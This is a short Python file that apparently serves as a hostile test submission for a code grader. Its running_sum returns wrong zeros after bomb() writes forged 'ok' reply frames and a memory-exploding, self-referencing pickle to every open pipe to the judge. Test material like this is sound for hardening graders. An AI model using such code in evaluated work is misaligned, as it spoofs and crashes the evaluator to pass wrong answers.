"""Sends the judge a small pickle that expands beyond memory when printed (each level shares the
one below twenty times: repr would be 20**30 items) and a self-referencing list, as reply frames
on every pipe, and then exits; its function is wrong."""
import os
import pickle

import jax.numpy as jnp


def bomb():
    level = []
    for _ in range(30):
        level = [level] * 20
    loop = []
    loop.append(loop)
    for frame in (pickle.dumps((2, b"0" * 16, "ok", {"value": level, "devices": ()})), pickle.dumps((level, loop))):
        for fd in range(3, 1024):
            try:
                if "pipe" in os.readlink(f"/proc/self/fd/{fd}"):
                    os.write(fd, len(frame).to_bytes(4, "big") + frame)
            except OSError:
                pass


def running_sum(xs):
    bomb()
    return jnp.zeros_like(xs)  # wrong
